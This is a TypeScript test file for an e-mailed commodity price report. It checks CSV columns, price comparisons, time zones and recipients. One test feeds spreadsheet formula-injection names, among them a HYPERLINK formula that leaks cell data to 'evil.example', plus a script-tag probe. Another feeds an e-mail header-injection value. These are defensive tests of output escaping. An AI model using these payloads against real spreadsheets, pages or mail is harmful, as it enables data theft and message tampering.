import { describe, expect, test } from 'bun:test'
import { dayMs } from '../../../../src/lib/time/instant.ts'
import type { DeliverySettings } from '../../../../src/topics/deliveries/service/deliveries.ts'
import { type DeliveryWorld, deliveryWorld } from '../../../support/topics/deliveries.ts'

/** The mail of one delivery at 15:00 UTC on Friday, 2026-11-20. */
async function sendMailMessage(world: DeliveryWorld, settings: Partial<DeliverySettings> = {}) {
  const account = world.account()
  const id = world.create(account, settings)
  world.services.deliveries.sendNow(world.services.deliveries.own(account.account.id, id)!)
  await world.beat()
  const mail = world.mails().at(-1)!
  const [file] = mail.attachments
  return { mail, file: file!, lines: file!.content.split('\n') }
}

describe('the table of a delivery', () => {
  test('has the columns of the specification and the rows of the latest prices, in the order of the codes', async () => {
    const world = deliveryWorld()
    world.record('BRENT_CRUDE_USD', '2026-11-19T20:00:00Z', 73.73)
    world.record('NATURAL_GAS_GBP', '2026-11-20T12:00:00Z', 80.5)
    world.record('NATURAL_GAS_GBP', '2026-11-18T12:00:00Z', 100)
    world.record('EUR_USD', '2026-11-20T14:00:00Z', 1.08424)
    const codes = ['NATURAL_GAS_GBP', 'BRENT_CRUDE_USD', 'GOLD_USD', 'EUR_USD', 'WTI_USD']
    const { file, mail } = await sendMailMessage(world, { name: 'Morning', commodityCodes: codes })
    expect(file).toMatchObject({
      filename: 'prices-2026-11-20.csv',
      contentType: 'text/csv; charset=utf-8',
      encoding: 'utf8',
    })
    expect(file.content).toBe(
      [
        'code,name,price,currency,unit,observed_at,previous_price,change,change_percent',
        'NATURAL_GAS_GBP,UK Natural Gas (NBP),80.5,GBP,pence_per_therm,2026-11-20T12:00:00Z,100,-19.5,-19.5',
        'BRENT_CRUDE_USD,Brent Crude Oil,74.25,USD,barrel,2026-11-20T14:00:00Z,73.73,0.52,0.71',
        'EUR_USD,EUR/USD,1.0842,USD,rate,2026-11-20T14:00:00Z,,,',
        'WTI_USD,WTI Crude Oil,70.1,USD,barrel,2026-11-20T14:00:00Z,,,',
        '',
      ].join('\n'),
    )
    expect(mail.subject).toBe('Morning, 2026-11-20')
    expect(mail.text).toContain(
      'Brent Crude Oil (BRENT_CRUDE_USD): $74.25 per barrel, +0.52 (+0.71%), observed 2026-11-20T14:00:00Z\n',
    )
    expect(mail.text).toContain('80.50p per therm, -19.50 (-19.50%), observed')
    expect(mail.text).toContain('(EUR_USD): 1.0842, observed')
    expect(mail.text).toContain('No current price: GOLD_USD.\n')
    expect(mail.html).toContain('<td align="left">$74.25 per barrel</td>')
  })

  test.each([
    ['UTC', '70'],
    ['America/New_York', '71'],
    ['Asia/Tokyo', '72'],
  ])('compares with the last observation of an earlier day in %s', async (timeZone, previous) => {
    const world = deliveryWorld()
    // The price is of 2026-11-20T14:00Z: 09:00 in New York, 23:00 in Tokyo.
    world.record('WTI_USD', '2026-11-19T12:00:00Z', 69)
    world.record('WTI_USD', '2026-11-19T14:30:00Z', 72)
    world.record('WTI_USD', '2026-11-19T23:59:00Z', 70)
    world.record('WTI_USD', '2026-11-20T04:59:00Z', 71)
    world.record('WTI_USD', '2026-11-20T05:00:00Z', 99)
    const { lines } = await sendMailMessage(world, { timeZone, commodityCodes: ['WTI_USD'] })
    expect(lines[1]!.split(',')[6]).toBe(previous)
  })

  test('the delivery table compares prices across a weekend and ignores quarantined values', async () => {
    const world = deliveryWorld()
    world.record('WTI_USD', '2026-11-17T12:00:00Z', 60)
    world.record('WTI_USD', '2026-11-18T12:00:00Z', 1)
    world.services.quarantine.add({
      seriesId: world.services.catalogue.named('WTI_USD')!.id,
      fromOn: '2026-11-18',
      toOn: '2026-11-18',
      reason: 'wrong',
      createdAt: 0,
    })
    const { lines } = await sendMailMessage(world, { commodityCodes: ['WTI_USD'] })
    expect(lines[1]).toEndWith(',60,10.1,16.83')
  })

  test('has no percentage from nothing, and negative prices are numbers', async () => {
    const world = deliveryWorld()
    world.record('WTI_USD', '2026-11-19T12:00:00Z', 0)
    world.record('WTI_USD', '2026-11-20T14:30:00Z', -37.63)
    const { lines, mail } = await sendMailMessage(world, { commodityCodes: ['WTI_USD'] })
    expect(lines[1]).toBe('WTI_USD,WTI Crude Oil,-37.63,USD,barrel,2026-11-20T14:30:00Z,0,-37.63,')
    expect(mail.text).toContain('-$37.63 per barrel, -37.63, observed')
  })

  test('has the front contract of a family of futures, once', async () => {
    const world = deliveryWorld()
    const { catalogue, clock, ingest } = world.services
    const front = catalogue.resolve('BRENT_FUTURES', clock.now())!.code
    const contract = catalogue.resolve(front, clock.now())!
    ingest.write([
      {
        seriesId: (catalogue.named(front) ?? contract.series).id,
        observedAt: clock.now() - dayMs,
        value: 75,
      },
    ])
    const { lines } = await sendMailMessage(world, { commodityCodes: ['BRENT_FUTURES', front] })
    expect(lines.map(line => line.split(',')[0])).toEqual(['code', front, ''])
  })

  test('has names that a spreadsheet does not run', async () => {
    const world = deliveryWorld()
    const names = [
      '=1+1',
      '+1',
      '-1',
      '@SUM(A1)',
      '\t=1',
      '=HYPERLINK("http://evil.example?"&A1,"x")',
      '<script>alert(1)</script>',
    ]
    for (const name of names) {
      world.db.run("UPDATE series SET name = ? WHERE code = 'WTI_USD'", [name])
      world.services.catalogue.reload()
      world.services.latestPrices.forgetAll()
      const { file, mail } = await sendMailMessage(world, { commodityCodes: ['WTI_USD'] })
      const cell = file.content.slice(file.content.indexOf('WTI_USD,') + 8)
      expect(cell).toStartWith(
        name.startsWith('<')
          ? '<script>'
          : /["\t]/.test(name)
            ? `"'${name.slice(0, 1)}`
            : `'${name}`,
      )
      expect(mail.html).not.toContain('<script>')
    }
  })
})

describe('the e-mail of a delivery', () => {
  test.each([
    [{ cadence: 'daily' }, 'every day at 07:00 (UTC)'],
    [
      { cadence: 'weekdays', timeZone: 'Asia/Tokyo' },
      'from Monday to Friday at 07:00 (Asia/Tokyo)',
    ],
    [{ cadence: 'weekly', weekday: 7, deliveryTime: '23:45' }, 'every Sunday at 23:45 (UTC)'],
  ] as [Partial<DeliverySettings>, string][])(
    'the e-mail of a delivery with the settings %j states that it is sent %s and how to pause it',
    async (settings, schedule) => {
      const { mail } = await sendMailMessage(deliveryWorld(), settings)
      expect(mail.text).toContain(schedule)
      expect(mail.text).toMatch(/To change or pause it: http:\/\/[^ ]+\/webhooks#[\w-]{36}\n/)
      expect(mail.text).not.toContain('No current price')
    },
  )

  test('the e-mail of a delivery has one subject and one recipient, whatever the name contains', async () => {
    const world = deliveryWorld()
    const { mail } = await sendMailMessage(world, { name: 'a\r\nBcc: x@example.com\u202e<b>' })
    expect(mail.subject).toBe('a Bcc: x@example.com <b>, 2026-11-20')
    expect(mail.to).toMatch(/^[0-9a-f]{8}@example\.com$/)
    expect(mail.html).toContain('a Bcc: x@example.com &lt;b&gt;, 2026-11-20')
  })

  test('goes to the account’s own address as it is then, unless another was named', async () => {
    const world = deliveryWorld()
    const account = world.account()
    world.create(account)
    world.create(account, { recipientEmail: 'desk@example.com' })
    world.services.keys.putAccount({ ...account.account, email: 'moved@example.com' })
    await world.advance(dayMs)
    expect(world.mails().map(mail => mail.to)).toEqual(['moved@example.com', 'desk@example.com'])
  })
})
